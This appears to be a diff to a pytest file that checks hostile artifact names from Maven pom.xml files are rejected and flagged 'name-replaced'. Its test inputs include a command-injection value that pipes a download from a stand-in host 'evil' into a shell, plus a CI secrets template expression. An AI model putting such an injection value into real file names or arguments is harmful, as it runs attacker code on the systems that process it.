@@ -169,8 +169,9 @@ def test_paths_that_cannot_be_written_safely_are_left_out_with_an_error(name: st
 
 @pytest.mark.parametrize("name", ["a]]&gt;&lt;b", "x&quot;;curl evil|sh;&quot;", "${{ secrets.X }}", "", "a" * 200])
 def test_hostile_names_are_not_taken(name: str) -> None:
-    found = p.component({"svc/pom.xml": p.pom(artifact=name)})
-    assert found.name == "svc"
+    files = {"svc/pom.xml": p.pom(artifact=name)}
+    assert p.component(files).name == "svc"
+    assert "name-replaced" in p.codes(files)
 
 
 def test_settings_and_local_jars_are_manifests() -> None:
